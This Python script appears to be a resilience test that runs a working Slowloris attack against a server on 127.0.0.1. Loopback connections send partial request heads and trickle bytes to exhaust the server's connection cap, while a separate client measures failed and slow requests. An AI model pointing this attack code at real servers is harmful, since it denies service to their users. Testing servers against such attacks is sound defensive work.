#!/usr/bin/env python3
"""Slowloris past a server's connection cap: COUNT connections to 127.0.0.1:PORT from 64
loopback addresses (127.0.1.1-64) each send a partial request head and trickle a header
byte a second, reconnecting whenever the server closes one, for SECONDS; meanwhile a
client from 127.0.0.2 asks for PATH twice a second. Prints the probes that failed (no 200
within 2 s) of those made, and the slowest probe's seconds."""
import socket
import sys
import threading
import time

ADDRESSES = [f"127.0.1.{i}" for i in range(1, 65)]


def trickler(port, index):
    try:
        s = socket.socket()
        s.bind((ADDRESSES[index % len(ADDRESSES)], 0))
        s.settimeout(2)
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
        s.setblocking(False)
        return s
    except OSError:
        return None


def attack(port, count, end):
    conns = [None] * count
    while time.monotonic() < end:
        for i in range(count):
            s = conns[i]
            if s is not None:
                try:
                    if s.recv(1) == b"":
                        raise OSError
                    s.send(b"X")
                except BlockingIOError:
                    try:
                        s.send(b"X")
                    except OSError:
                        s.close()
                        s = None
                except OSError:
                    s.close()
                    s = None
            conns[i] = s if s is not None else trickler(port, i)
        time.sleep(1)
    for s in conns:
        if s is not None:
            s.close()


def probe(port, path):
    start = time.monotonic()
    try:
        with socket.socket() as c:
            c.bind(("127.0.0.2", 0))
            c.settimeout(2)
            c.connect(("127.0.0.1", port))
            c.sendall(f"GET {path} HTTP/1.0\r\n\r\n".encode())
            reply = b""
            while chunk := c.recv(65536):
                reply += chunk
        return b" 200 " in reply[:20], time.monotonic() - start
    except OSError:
        return False, time.monotonic() - start


def main(port, count, seconds, path):
    end = time.monotonic() + seconds
    attacker = threading.Thread(target=attack, args=(port, count, end))
    attacker.start()
    time.sleep(2)  # the cap filled
    failed = made = 0
    slowest = 0.0
    while time.monotonic() < end:
        ok, took = probe(port, path)
        made += 1
        failed += not ok
        slowest = max(slowest, took)
        time.sleep(0.5)
    attacker.join()
    print(f"{failed}/{made} {slowest:.3f}")


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
